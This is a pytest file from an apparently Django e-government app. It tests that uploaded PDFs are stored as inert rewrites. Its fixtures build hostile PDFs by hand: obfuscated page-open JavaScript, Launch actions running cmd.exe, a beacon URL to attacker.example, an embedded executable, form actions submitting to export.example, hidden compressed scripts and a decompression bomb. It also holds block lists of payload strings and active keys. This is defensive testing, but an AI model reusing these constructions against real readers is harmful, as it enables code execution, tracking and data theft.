"""Every uploaded PDF is stored and served as a rewrite that cannot act (review M3).

Each hostile file below is one the old byte-pattern filter let through (b, d, e, f of the
review) or would have (compressed object streams, form field actions, /Next chains). Each is
now accepted, and what is stored and served keeps the pages, their content and images, and
nothing that can act; the checksum of the bytes received is kept beside it.
"""

import hashlib
import io

import pikepdf
import pytest
from django.test import Client
from pypdf import PdfReader

from egov.dossiers.models import Attachment
from egov.dossiers.uploads import passive_pdf
from tests.dossiers.helpers import client_for, upload
from tests.factories import household, household_data

TEXT = b"BT /F1 24 Tf 20 100 Td (Giay to tuy than) Tj ET"
DRAW_IMAGE = b"q 40 0 0 40 120 20 cm /Im1 Do Q"
PIXELS = bytes([255, 0, 0, 0, 255, 0, 0, 0, 255, 255, 255, 255])  # 2 x 2 RGB
# What no stored copy may hold, however it is spelt or compressed.
PAYLOADS = (b"app.alert", b"cmd.exe", b"attacker.example", b"evil.exe", b"MZ\x90\x00", b"this.submitForm",
            b"export.example")  # fmt: skip
ACTIVE_KEYS = {"/AA", "/A", "/OpenAction", "/JS", "/JavaScript", "/Next", "/URI", "/Launch", "/EmbeddedFiles",
               "/EmbeddedFile", "/EF", "/FS", "/AcroForm", "/XFA", "/Annots", "/Names", "/Outlines"}  # fmt: skip
ACTIONS = {"/JavaScript", "/Launch", "/URI", "/SubmitForm", "/GoToR", "/GoToE", "/ImportData", "/GoTo", "/Named"}


# --- hostile PDFs, written byte by byte as an attacker would -----------------------------------


def raw_pdf(*objects, trailer=b"/Root 1 0 R"):
    """A PDF of these object bodies (object 1 first), with a correct cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.writelines(b"%010d 00000 n \n" % offset for offset in offsets)
    out.write(b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref))
    return out.getvalue()


def stream(data, extra=b""):
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), extra, data)


# Objects 1 to 6 of every raw file: catalogue (with ``catalog`` added), pages, one page (with
# ``page`` added) whose content writes a line of text and draws a small image, its content,
# its font, its image.
def paper_objects(catalog=b"", page=b""):
    return (
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /Im1 6 0 R >> >> " + page + b" >>",
        stream(TEXT + b"\n" + DRAW_IMAGE),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        stream(PIXELS, b"/Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceRGB /BitsPerComponent 8"),
    )


def b_page_open_script():
    """Review's b.pdf: the page's /AA runs JavaScript on opening, the name spelt with an escape."""
    return raw_pdf(*paper_objects(page=b"/AA << /O << /S /Java#53cript /JS (app.alert('page-open JS')) >> >>"))


def d_annotation_launch():
    """Review's d.pdf: a link annotation whose /AA launches a program on the mouse entering it."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /Border [0 0 0] /AA << /E << /S /Laun#63h /F (cmd.exe) >> >> >>"
    return raw_pdf(*paper_objects(page=b"/Annots [7 0 R]"), link)


def e_open_uri():
    """Review's e.pdf: opening the document calls a URL (a beacon telling who read it, when)."""
    return raw_pdf(*paper_objects(catalog=b"/OpenAction << /S /URI /URI (http://attacker.example/beacon) >>"))


def f_embedded_exe():
    """Review's f.pdf: an executable in /Embedded#46iles, and again behind a paper-clip annotation."""
    exe = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode."
    spec = b"<< /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F 8 0 R >> >>"
    clip = b"<< /Type /Annot /Subtype /FileAttachment /Rect [150 150 170 170] /FS 7 0 R /Name /PushPin >>"
    return raw_pdf(
        *paper_objects(catalog=b"/Names << /Embedded#46iles << /Names [(evil.exe) 7 0 R] >> >>", page=b"/Annots [9 0 R]"),
        spec, stream(exe, b"/Type /EmbeddedFile /Subtype /application#2Fx-msdownload"), clip,
    )  # fmt: skip


def next_chain():
    """An innocent-looking /GoTo on opening whose /Next chain calls a URL, then runs a script,
    then opens another file; and a bookmark that launches a program."""
    chain = (b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [ << /S /URI /URI (http://attacker.example/next) >> "
             b"<< /S /JavaScript /JS (app.alert('next')) /Next << /S /GoToR /F (evil.exe) /D [0 /Fit] >> >> ] >> "
             b"/Outlines 7 0 R")  # fmt: skip
    return raw_pdf(
        *paper_objects(catalog=chain),
        b"<< /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 >>",
        b"<< /Title (Mo) /Parent 7 0 R /A << /S /Launch /F (cmd.exe) >> >>",
    )


def form_field_actions():
    """A filled-in form (the applicant's name in a text field) whose field validates with a
    script, submits itself on a keystroke and imports data when the page closes; and XFA."""
    appearance = b"/Tx BMC BT /F1 12 Tf 2 4 Td (Nguyen Van An) Tj ET EMC"
    field = (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (owner) /V (Nguyen Van An) /Rect [20 150 180 170] /F 4 "
             b"/P 3 0 R /AP << /N 9 0 R >> /DA (/F1 12 Tf 0 g) "
             b"/A << /S /SubmitForm /F << /FS /URL /F (http://export.example/collect) >> >> "
             b"/AA << /V << /S /JavaScript /JS (this.submitForm('http://export.example/v')) >> "
             b"/K << /S /JavaScript /JS (app.alert('key')) >> /PC << /S /ImportData /F (evil.exe) >> >> >>")  # fmt: skip
    return raw_pdf(
        *paper_objects(catalog=b"/AcroForm << /Fields [7 0 R] /DR << /Font << /F1 5 0 R >> >> /XFA 8 0 R >>",
                       page=b"/Annots [7 0 R]"),
        field,
        stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert('xfa')</script></xdp:xdp>"),
        stream(appearance, b"/Type /XObject /Subtype /Form /BBox [0 0 160 20] /Resources << /Font << /F1 5 0 R >> >>"),
    )  # fmt: skip


def compressed_javascript():
    """Document-level JavaScript (the /JavaScript name tree and /OpenAction) inside a compressed
    object stream: the bytes show no /JavaScript to look for."""
    pdf = pikepdf.open(io.BytesIO(raw_pdf(*paper_objects())))
    script = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('objstm')")))
    pdf.Root.OpenAction = script
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["hello", script])))
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    data = out.getvalue()
    assert b"JavaScript" not in data and b"app.alert" not in data  # nothing left in plain sight
    return data


def reached_from_resources():
    """What the copied pages keep (their resources) points back at the old catalogue and at a
    script: dropping the catalogue's keys is not enough, whatever is reached is made inert."""
    return raw_pdf(
        *paper_objects(catalog=b"/OpenAction 7 0 R /Names << /JavaScript << /Names [(x) 7 0 R] >> >>")[:2],
        (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> "
            b"/XObject << /Im1 6 0 R >> /Properties << /MC0 1 0 R /MC1 7 0 R >> >> /AA << /C 7 0 R >> >>"),
        *paper_objects()[3:],
        b"<< /Type /Action /S /JavaScript /JS (app.alert('reached')) /Next << /S /Launch /F (cmd.exe) >> >>",
    )  # fmt: skip


HOSTILE = {
    "b.pdf": b_page_open_script,
    "d.pdf": d_annotation_launch,
    "e.pdf": e_open_uri,
    "f.pdf": f_embedded_exe,
    "next.pdf": next_chain,
    "form.pdf": form_field_actions,
    "objstm.pdf": compressed_javascript,
    "reached.pdf": reached_from_resources,
}


# --- what a passive copy is ---------------------------------------------------------------------


def contents(page):
    value = page.obj.get("/Contents")
    parts = value if isinstance(value, pikepdf.Array) else [value]
    return b"\n".join(part.read_bytes() for part in parts)


def images(page):
    return {bytes(xobject.read_bytes()) for xobject in page.get_images().values()}


def assert_passive(stored, original):
    """``stored`` has ``original``'s pages, content and images, and nothing that can act."""
    with pikepdf.open(io.BytesIO(original)) as before, pikepdf.open(io.BytesIO(stored)) as after:
        assert not after.is_encrypted
        assert len(after.pages) == len(before.pages)
        for old, new in zip(before.pages, after.pages, strict=True):
            assert TEXT in contents(new) and DRAW_IMAGE in contents(new)
            assert contents(old) in contents(new)  # the page's own drawing, whole, in order
            assert images(new) == images(old) == {PIXELS}
            assert list(new.mediabox) == list(old.mediabox)
        assert set(after.Root.keys()) <= {"/Type", "/Pages", "/OCProperties"}
        assert not after.attachments
        for item in _every_dictionary(after):
            assert not ACTIVE_KEYS & set(item.keys()), repr(item)
            assert str(item.get("/S", "")) not in ACTIONS, repr(item)
            assert str(item.get("/Type", "")) not in {"/Filespec", "/EmbeddedFile", "/Action"}, repr(item)
        every_byte = io.BytesIO()
        after.save(every_byte, qdf=True, stream_decode_level=pikepdf.StreamDecodeLevel.all,
                   object_stream_mode=pikepdf.ObjectStreamMode.disable)  # fmt: skip
    for payload in PAYLOADS:
        assert payload not in every_byte.getvalue(), payload
    # A second reader, not built on qpdf, agrees.
    reader = PdfReader(io.BytesIO(stored))
    assert len(reader.pages) == len(PdfReader(io.BytesIO(original)).pages)
    assert "/AcroForm" not in reader.trailer["/Root"] and "/Names" not in reader.trailer["/Root"]
    assert all("/AA" not in page and "/Annots" not in page for page in reader.pages)
    assert "Giay to tuy than" in reader.pages[0].extract_text()


def _every_dictionary(pdf):
    stack, seen = list(pdf.objects), set()
    while stack:
        item = stack.pop()
        if not isinstance(item, pikepdf.Dictionary | pikepdf.Stream | pikepdf.Array):
            continue
        if item.is_indirect:
            if item.objgen in seen:
                continue
            seen.add(item.objgen)
        if isinstance(item, pikepdf.Array):
            stack.extend(item)
        else:
            yield item
            stack.extend(item.values())


# --- the rewrite, and the upload that stores and serves it -------------------------------------


@pytest.mark.parametrize("name", HOSTILE)
def test_the_rewrite_keeps_the_pages_and_nothing_that_can_act(name):
    original = HOSTILE[name]()
    with pytest.raises(AssertionError):  # the file as built is as hostile as it claims
        assert_passive(original, original)
    assert_passive(passive_pdf(original), original)


def test_the_filled_in_field_still_shows_after_the_form_is_gone():
    stored = passive_pdf(form_field_actions())
    text = PdfReader(io.BytesIO(stored)).pages[0].extract_text()
    assert "Nguyen Van An" in text  # drawn into the page from the field's appearance


def test_the_rewrite_is_the_same_for_the_same_bytes():
    original = b_page_open_script()
    assert passive_pdf(original) == passive_pdf(original)


@pytest.fixture
def draft(db):
    ward = household()
    client = client_for(ward.citizen)
    dossier = client.post("/api/v1/dossiers/", {"procedure": ward.code, "data": household_data(ward)}).json()
    return ward, client, dossier["id"]


@pytest.mark.parametrize("name", HOSTILE)
def test_the_hostile_upload_is_stored_and_served_passive_with_the_original_checksum(draft, name):
    ward, client, dossier_id = draft
    original = HOSTILE[name]()
    answer = upload(client, dossier_id, "owner_id", original, name=name)
    assert answer.status_code == 201, answer.content
    stored = Attachment.objects.get()
    with stored.file.open("rb") as handle:
        kept = handle.read()
    assert kept != original
    assert_passive(kept, original)
    # What was received, as evidence; what is kept and served, as what it is.
    assert stored.original_sha256 == hashlib.sha256(original).hexdigest()
    assert stored.original_size == len(original)
    assert stored.sha256 == hashlib.sha256(kept).hexdigest() == answer.json()["sha256"]
    assert stored.size == len(kept)
    assert stored.content_type == "application/pdf" and stored.original_name == name
    # The page officers download it from (here as the applicant, who may see the draft) serves that copy.
    browser = Client()
    browser.force_login(ward.citizen)
    response = browser.get(f"/attachments/{stored.pk}/?download=1")
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert b"".join(response.streaming_content) == kept


def test_a_pdf_that_asks_for_a_password_is_refused_and_nothing_is_stored(draft):
    _ward, client, dossier_id = draft
    locked = io.BytesIO()
    with pikepdf.open(io.BytesIO(raw_pdf(*paper_objects()))) as pdf:
        pdf.save(locked, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    answer = upload(client, dossier_id, "owner_id", locked.getvalue(), name="locked.pdf")
    assert answer.status_code == 400
    assert "password" in str(answer.json()["errors"]["file"])
    assert Attachment.objects.count() == 0


def test_a_pdf_restricted_only_by_its_owner_is_stored_readable(draft):
    """Open without a password but "no printing, no copying": the officers must print it."""
    _ward, client, dossier_id = draft
    restricted = io.BytesIO()
    with pikepdf.open(io.BytesIO(raw_pdf(*paper_objects()))) as pdf:
        pdf.save(restricted, encryption=pikepdf.Encryption(user="", owner="owner-secret",
                                                            allow=pikepdf.Permissions(print_highres=False)))  # fmt: skip
    answer = upload(client, dossier_id, "owner_id", restricted.getvalue(), name="restricted.pdf")
    assert answer.status_code == 201, answer.content
    with Attachment.objects.get().file.open("rb") as handle:
        kept = handle.read()
    with pikepdf.open(io.BytesIO(kept)) as pdf:
        assert not pdf.is_encrypted and TEXT in contents(pdf.pages[0])


def test_a_pdf_whose_object_streams_inflate_beyond_bounds_is_refused(draft):
    """A hundred kilobytes that qpdf would inflate to 70 MB while parsing (one object stream:
    qpdf puts up to a hundred objects in each)."""
    _ward, client, dossier_id = draft
    with pikepdf.open(io.BytesIO(raw_pdf(*paper_objects()))) as pdf:
        for n in range(70):
            pdf.Root[f"/Pad{n}"] = pdf.make_indirect(pikepdf.Dictionary(Pad=pikepdf.String(" " * 1_000_000)))
        bomb = io.BytesIO()
        pdf.save(bomb, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert len(bomb.getvalue()) < 1_000_000
    answer = upload(client, dossier_id, "owner_id", bomb.getvalue(), name="inflating.pdf")
    assert answer.status_code == 400
    assert answer.json()["errors"]["file"]
    assert Attachment.objects.count() == 0


def test_a_pdf_without_pages_is_refused(draft):
    _ward, client, dossier_id = draft
    empty = raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>")
    answer = upload(client, dossier_id, "owner_id", empty, name="empty.pdf")
    assert answer.status_code == 400
    assert Attachment.objects.count() == 0


def test_what_pages_inherit_and_layers_survive_the_rewrite():
    """Size, rotation and resources set once on the page tree, and optional-content layers."""
    original = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OCProperties << /OCGs [7 0 R] /D << /ON [7 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 300 400] /Rotate 90 "
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /Im1 6 0 R >> /Properties << /L1 7 0 R >> >> >>",
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
        *paper_objects()[3:],
        b"<< /Type /OCG /Name (Con dau) >>",
    )
    stored = passive_pdf(original)
    with pikepdf.open(io.BytesIO(stored)) as pdf:
        page = pdf.pages[0]
        assert list(page.mediabox) == [0, 0, 300, 400] and page.obj.Rotate == 90
        assert "/F1" in page.obj.Resources.Font and "/L1" in page.obj.Resources.Properties
        assert pdf.Root.OCProperties.OCGs[0].Name == "Con dau"
    assert_passive(stored, original)
